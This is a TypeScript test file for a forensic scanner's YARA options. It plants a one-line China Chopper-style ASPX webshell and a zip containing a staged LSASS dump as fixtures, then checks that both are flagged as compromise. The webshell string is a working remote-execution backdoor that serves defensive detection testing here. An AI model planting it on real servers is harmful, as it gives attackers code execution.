// The scan's YARA flags end to end: our rules over web scripts by default, staged files on request, none, no engine.

import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import test from 'node:test';
import yazl from 'yazl';
import type { ScanReport } from '../core/report.js';
import { EXIT } from './io.js';
import { main } from './main.js';
import { runCaptured } from './testing.js';

function zipOf(names: string[]): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const n of names) z.addBuffer(Buffer.from(`content of ${n}`), n);
  z.end();
  return new Promise((resolve, reject) => {
    const parts: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => parts.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(parts)));
    z.outputStream.on('error', reject);
  });
}

async function evidence(): Promise<string> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'exhunt-scan-yara-'));
  const files: Record<string, string | Buffer> = {
    'inetpub/wwwroot/aspnet_client/help.aspx':
      '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
    'ProgramData/out.zip': await zipOf(['stage/lsass.dmp', 'notes.txt']),
  };
  for (const [p, data] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, p)), { recursive: true });
    await writeFile(path.join(root, p), data);
  }
  return root;
}

async function scanWith(root: string, args: string[]): Promise<ScanReport> {
  const json = path.join(await mkdtemp(path.join(os.tmpdir(), 'exhunt-out-')), 'r.json');
  const { err } = await runCaptured(main, [
    'scan',
    root,
    '--json',
    json,
    '--threads',
    '0',
    '--quiet',
    ...args,
  ]);
  assert.doesNotMatch(err, /Error|at .*\.js:\d+/);
  return JSON.parse(await readFile(json, 'utf8')) as ScanReport;
}

/** Findings of the rule file these tests are about (the family rules have their own tests). */
const yaraRules = (r: ScanReport) =>
  r.findings
    .filter((f) => f.rule.id.startsWith('yara.exchange_webshells.'))
    .map((f) => `${f.evidence[0]?.path} ${f.rule.id} ${f.outcome}`)
    .sort();

test('by default our YARA rules read the web scripts only; --yara-staged adds dumps and archives', async () => {
  const root = await evidence();
  assert.deepEqual(yaraRules(await scanWith(root, [])), [
    'inetpub/wwwroot/aspnet_client/help.aspx yara.exchange_webshells.exhunt_chopper_eval_request compromise',
  ]);
  // The listing waits behind the staged-file gate, which the webshell opens: it counts as compromise.
  const staged = await scanWith(root, ['--yara-staged']);
  assert.deepEqual(yaraRules(staged), [
    'ProgramData/out.zip yara.exchange_webshells.exhunt_listing_credential_material compromise',
    'inetpub/wwwroot/aspnet_client/help.aspx yara.exchange_webshells.exhunt_chopper_eval_request compromise',
  ]);
  assert.deepEqual(yaraRules(await scanWith(root, ['--no-yara'])), []);
  // The engine every install has gives the same findings as whichever auto chose here.
  const wasm = await scanWith(root, ['--yara-staged', '--yara-engine', 'yara-wasm']);
  assert.deepEqual(yaraRules(wasm), yaraRules(staged));
});

test('with no YARA engine at all the scan still runs and says so', async () => {
  const root = await evidence();
  const saved = { ...process.env };
  Object.assign(process.env, {
    EXHUNT_YARA_MODULE: '/nonexistent/yara-x',
    EXHUNT_YARA_WASM_MODULE: '/nonexistent/libyara-wasm',
    EXHUNT_YARA_BIN: '/nonexistent/yara',
  });
  try {
    const r = await scanWith(root, []);
    assert.deepEqual(yaraRules(r), []);
    const why = r.problems.filter((p) => p.code === 'yara.unavailable');
    assert.equal(why.length, 1);
    assert.match(why[0]!.message, /no YARA engine: YARA-X binding: .*WebAssembly libyara: .*yara program: /);
    assert.equal(r.verdict, 'compromised', 'the built-in detectors still see the webshell');
  } finally {
    for (const k of ['EXHUNT_YARA_MODULE', 'EXHUNT_YARA_WASM_MODULE', 'EXHUNT_YARA_BIN'])
      if (saved[k] === undefined) delete process.env[k];
      else process.env[k] = saved[k];
  }
});

test('YARA flags that contradict each other, or an unknown engine, are usage errors', async () => {
  const root = await evidence();
  const both = await runCaptured(main, ['scan', root, '--no-yara', '--yara', root]);
  assert.equal(both.code, EXIT.error);
  assert.match(both.err, /--no-yara cannot go with --yara/);
  const bad = await runCaptured(main, ['scan', root, '--yara-engine', 'clamav']);
  assert.equal(bad.code, EXIT.error);
  assert.match(bad.err, /--yara-engine is auto, yara-x, yara-wasm, yara-cli; got "clamav"/);
});
